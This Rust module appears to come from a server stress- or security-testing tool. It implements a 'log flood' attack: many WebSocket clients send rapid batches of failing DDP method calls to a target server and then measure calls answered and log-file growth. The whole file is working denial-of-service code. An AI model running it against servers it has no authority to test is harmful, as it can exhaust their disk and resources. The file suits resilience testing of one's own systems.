//! Calls that fail, so that the server has something to log.

use std::path::PathBuf;
use std::time::Duration;

use futures::{SinkExt, StreamExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout_at};
use tokio_tungstenite::client_async;
use tokio_tungstenite::tungstenite::{Error as SocketError, Message};

use super::{Error, Findings, SECONDS_MAX, Victim};

/// How many calls are sent before their results are read.
const BATCH: usize = 200;

/// Calls a method that fails, as fast as it goes.
#[derive(Clone, Debug, clap::Args)]
pub struct LogFlood {
    /// How many clients.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u32).range(1..=100))]
    count: u32,
    /// For how long, in seconds.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=SECONDS_MAX))]
    seconds: u64,
    /// The method, which is called without arguments.
    #[arg(long, default_value = "echo")]
    method: String,
    /// The file that the server's log is written to, to see how it grows.
    #[arg(long)]
    log: Option<PathBuf>,
}

impl LogFlood {
    /// Makes the attack.
    ///
    /// # Errors
    /// If the log cannot be looked at.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        let before = self.log_bytes()?;
        let end = Instant::now() + Duration::from_secs(self.seconds);
        let mut callers = JoinSet::new();
        for _ in 0..self.count {
            let method = self.method.clone();
            callers.spawn(async move {
                let mut results = 0_u64;
                // However it ends, what came counts.
                let _ = timeout_at(end, call(victim, &method, &mut results)).await;
                results
            });
        }
        let results: u64 = callers.join_all().await.into_iter().sum();
        let mut findings = vec![
            ("clients", self.count.to_string()),
            ("calls answered", format!("{results} ({}/s)", results / self.seconds)),
        ];
        if let (Some(before), Some(after)) = (before, self.log_bytes()?) {
            let bytes = after.saturating_sub(before);
            findings.push(("the log grew by", format!("{:.3} MB", bytes as f64 / 1e6)));
        }
        Ok(findings)
    }

    fn log_bytes(&self) -> Result<Option<u64>, Error> {
        let Some(path) = &self.log else { return Ok(None) };
        let unreadable = |error| Error::File(path.display().to_string(), error);
        Ok(Some(std::fs::metadata(path).map_err(unreadable)?.len()))
    }
}

async fn call(victim: Victim, method: &str, results: &mut u64) -> Result<(), SocketError> {
    let socket = TcpStream::connect(victim.address()).await?;
    let (mut socket, _) =
        client_async(format!("ws://{}/websocket", victim.address()), socket).await?;
    socket.send(Message::text(r#"{"msg":"connect","version":"1","support":["1"]}"#)).await?;
    loop {
        for id in 0..BATCH {
            let call = format!(r#"{{"msg":"method","id":"{id}","method":"{method}","params":[]}}"#);
            socket.feed(Message::text(call)).await?;
        }
        socket.flush().await?;
        let mut answered = 0;
        while answered < BATCH {
            let Some(message) = socket.next().await else { return Ok(()) };
            if message?.to_text().is_ok_and(|text| text.contains(r#""msg":"result""#)) {
                answered += 1;
                *results += 1;
            }
        }
    }
}
